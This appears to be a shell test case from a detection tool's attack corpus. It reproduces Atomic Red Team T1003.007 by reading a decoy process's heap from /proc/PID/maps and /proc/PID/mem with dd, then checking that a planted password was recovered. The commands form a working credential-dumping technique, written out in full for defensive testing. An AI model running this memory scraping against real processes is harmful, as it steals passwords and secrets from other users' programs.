#!/bin/bash
# case: art-1-sh
# expect: attack
# kinds: maps mem
# what: Atomic Red Team T1003.007 test 1: sh victim, grep heap in maps, dd ibs=1 of the heap from mem
. "$PMGUARD_REPO/tests/corpus/lib-case.sh"
cd "$CASE_WORK" || exit 1
sh -c 'echo "The password is T1003.007" && sleep 600' >/dev/null &
sleep 0.5
# The test's own commands, literally (output_file = $CASE_WORK/dump).
PID=$(pgrep -n -f "The password is T1003")
HEAP_MEM=$(grep -E "^[0-9a-f-]* r" /proc/"$PID"/maps | grep heap | cut -d' ' -f 1)
MEM_START=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f1))))
MEM_STOP=$(echo $((0x$(echo "$HEAP_MEM" | cut -d"-" -f2))))
MEM_SIZE=$((MEM_STOP - MEM_START))
dd if=/proc/"${PID}"/mem of="$CASE_WORK/dump" ibs=1 skip="$MEM_START" count="$MEM_SIZE" 2>/dev/null
ok grep -q -i "The password is T1003.007" "$CASE_WORK/dump"
kill "$PID"
case_done
